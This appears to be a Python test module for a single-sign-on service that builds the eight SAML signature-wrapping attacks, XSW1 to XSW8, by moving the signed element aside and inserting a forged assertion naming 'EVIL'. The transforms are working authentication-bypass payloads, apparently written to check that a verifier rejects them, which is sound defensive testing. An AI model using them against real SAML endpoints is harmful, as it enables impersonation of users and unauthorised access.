"""
Signature wrapping, XSW1 to XSW8 as the SAML Raider tool numbers them.

Each takes a signed response and moves the signed part aside, so that a careless reader verifies
one element and reads another, which names the person ``EVIL``.
"""

from copy import deepcopy

from lxml import etree
from tests.sso.saml_idp import NS, Change, one

_DSIG = f"{{{NS['ds']}}}"


def forge(element: etree._Element, new_id: str = "_evil") -> etree._Element:
    """Return a copy that names another person, under another id."""
    copy = deepcopy(element)
    copy.set("ID", new_id)
    for path in (".//saml:NameID", ".//saml:AttributeValue"):
        for value in copy.findall(path, NS):
            value.text = "EVIL"
    return copy


def bare(element: etree._Element) -> etree._Element:
    """Return a copy without the element's own signature."""
    copy = deepcopy(element)
    copy.remove(one(copy, "ds:Signature"))
    return copy


def _become(root: etree._Element, other: etree._Element) -> None:
    """Give a tree another's attributes and children."""
    children = list(other)
    root[:] = children
    root.attrib.clear()
    root.attrib.update(dict(other.attrib))


def xsw1(root: etree._Element) -> None:
    """Put the signed response into the forged response's signature."""
    original, forged = bare(root), forge(root)
    one(forged, "ds:Signature").append(original)
    _become(root, forged)


def xsw2(root: etree._Element) -> None:
    """Put the signed response before the signature of the forged one."""
    original, forged = bare(root), forge(root)
    forged.insert(1, original)
    _become(root, forged)


def xsw3(root: etree._Element) -> None:
    """Put a forged, unsigned assertion before the signed one."""
    assertion = one(root, "saml:Assertion")
    root.insert(root.index(assertion), forge(bare(assertion)))


def xsw4(root: etree._Element) -> None:
    """Put the signed assertion into a forged one."""
    assertion = one(root, "saml:Assertion")
    forged = forge(bare(assertion))
    root.replace(assertion, forged)
    forged.append(assertion)


def xsw5(root: etree._Element) -> None:
    """Let the forged assertion keep the signature; the original goes to the end without it."""
    assertion = one(root, "saml:Assertion")
    original, forged = bare(assertion), forge(assertion)
    root.replace(assertion, forged)
    root.append(original)


def xsw6(root: etree._Element) -> None:
    """Let the forged assertion keep the signature, which holds the original."""
    assertion = one(root, "saml:Assertion")
    original, forged = bare(assertion), forge(assertion)
    root.replace(assertion, forged)
    one(forged, "ds:Signature").append(original)


def xsw7(root: etree._Element) -> None:
    """Put a forged assertion into an Extensions element."""
    assertion = one(root, "saml:Assertion")
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    extensions.append(forge(bare(assertion), assertion.get("ID", "")))
    root.insert(1, extensions)


def xsw8(root: etree._Element) -> None:
    """Put the original into an Object of the signature that the forged assertion keeps."""
    assertion = one(root, "saml:Assertion")
    original, forged = bare(assertion), forge(assertion)
    holder = etree.SubElement(one(forged, "ds:Signature"), f"{_DSIG}Object")
    holder.append(original)
    root.replace(assertion, forged)


#: Each attack with the elements that must be signed for it.
ATTACKS: dict[str, tuple[Change, tuple[str, ...]]] = {
    "xsw1": (xsw1, ("samlp:Response",)),
    "xsw2": (xsw2, ("samlp:Response",)),
    "xsw3": (xsw3, ("saml:Assertion",)),
    "xsw4": (xsw4, ("saml:Assertion",)),
    "xsw5": (xsw5, ("saml:Assertion",)),
    "xsw6": (xsw6, ("saml:Assertion",)),
    "xsw7": (xsw7, ("saml:Assertion",)),
    "xsw8": (xsw8, ("saml:Assertion",)),
}
